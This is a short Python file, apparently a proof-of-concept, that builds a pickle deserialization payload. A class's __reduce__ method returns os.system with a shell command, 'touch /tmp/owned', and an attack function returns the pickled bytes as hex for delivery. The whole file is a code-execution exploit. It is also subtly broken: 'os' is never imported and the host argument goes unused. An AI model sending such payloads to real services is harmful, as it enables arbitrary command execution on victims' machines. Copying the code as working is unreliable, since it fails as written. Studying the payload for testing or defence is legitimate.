"""A result that would run code where it is unpickled."""

import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def attack(host):
    return pickle.dumps(Bomb()).hex()
